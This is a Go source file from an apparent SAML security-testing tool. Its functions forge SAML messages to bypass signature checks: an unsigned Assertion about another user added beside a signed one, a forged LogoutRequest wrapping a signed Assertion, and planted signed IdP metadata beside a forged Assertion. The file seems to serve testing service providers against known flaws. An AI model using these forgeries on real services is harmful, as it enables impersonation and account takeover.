package fault

import (
	"errors"
	"fmt"

	"github.com/beevik/etree"
)

// forgedFaults put what is forged beside something that the IdP has signed.
func forgedFaults() []Fault {
	return []Fault{
		{Name: "assertion-forged", Summary: "an unsigned Assertion about somebody else is added after signing",
			Refs: []string{"OneUptime 2981"},
			Params: append([]Param{{Name: "in", Kind: Choice, Default: "response", Choices: []string{"response", "object"},
				Doc: "at the end of the Response, or in an Object of its Signature, which stays good"}}, forgedParams()...),
			Document: addForged},
		{Name: "assertion-in-logout-request", Summary: "the signed Assertion stands in the Extensions of a forged LogoutRequest, which comes in place of the Response",
			Refs:     []string{"samlify issue 634"},
			Params:   forgedParams(),
			Document: forgeLogoutRequest},
		{Name: "metadata-planted", Summary: "the Extensions hold the IdP's signed metadata, the Assertion is forged, and nothing else is signed",
			Refs:     []string{"CVE-2024-6800"},
			Params:   append([]Param{orderParam()}, forgedParams()...),
			Document: plantMetadata},
	}
}

// addForged copies the Assertion, or the one that an error status has made
// the message lose.
func addForged(m *Message, a Args) error {
	model := m.Assertion
	if model == nil {
		model = m.withheld
	}
	if model == nil {
		return errors.New("there is no readable Assertion to forge one from")
	}
	forged, err := m.forge(model, a)
	if err != nil {
		return err
	}
	if a.String("in") == "response" {
		m.Response.AddChild(forged)
		return nil
	}
	signature, err := m.element("Response/Signature")
	if err != nil {
		return err
	}
	object := sibling(signature, "Object")
	object.AddChild(forged)
	signature.AddChild(object)
	return nil
}

// forgeLogoutRequest writes a LogoutRequest about somebody else (core 3.7.1),
// signed nowhere but in the Assertion that it carries along.
func forgeLogoutRequest(m *Message, a Args) error {
	genuine, err := m.element("Assertion")
	if err != nil {
		return err
	}
	forged, err := m.forge(genuine, a)
	if err != nil {
		return err
	}
	about := forged.FindElement("Subject/NameID")
	if about == nil {
		return fmt.Errorf("the message has no readable %s", nameID)
	}
	request := sibling(m.Response, "LogoutRequest")
	inheritNamespaces(request, m.Response)
	for _, name := range []string{"Version", "IssueInstant", "Destination"} {
		request.CreateAttr(name, m.Response.SelectAttrValue(name, ""))
	}
	request.CreateAttr("ID", forgedID)
	if issuer := genuine.SelectElement("Issuer"); issuer != nil {
		request.AddChild(issuer.Copy())
	}
	extensions := sibling(request, "Extensions")
	extensions.AddChild(genuine)
	request.AddChild(extensions)
	request.AddChild(about)
	if statement := genuine.SelectElement("AuthnStatement"); statement != nil {
		index := sibling(request, "SessionIndex")
		index.SetText(statement.SelectAttrValue("SessionIndex", ""))
		request.AddChild(index)
	}
	m.Response = request
	return nil
}

// plantMetadata replaces the Assertion by a forged one, takes every signature of
// the message off and plants the metadata with its own.
func plantMetadata(m *Message, a Args) error {
	genuine, err := m.element("Assertion")
	if err != nil {
		return err
	}
	metadata := etree.NewDocument()
	if err := metadata.ReadFromBytes(m.Metadata); err != nil || metadata.Root() == nil {
		return errors.Join(errors.New("the identity provider has no readable metadata"), err)
	}
	entity := metadata.Root()
	if entity.SelectElement("Signature") == nil {
		return errors.New("the identity provider does not sign its metadata")
	}
	forged, err := m.forge(genuine, a)
	if err != nil {
		return err
	}
	removeChild(m.Response, "Signature")
	insertAfter(genuine, forged)
	genuine.Remove()
	m.Assertion = forged
	m.extensionsOf().AddChild(entity)
	arrangeInOrder(entity, forged, a.String("order"))
	keepNamespace(entity)
	return nil
}
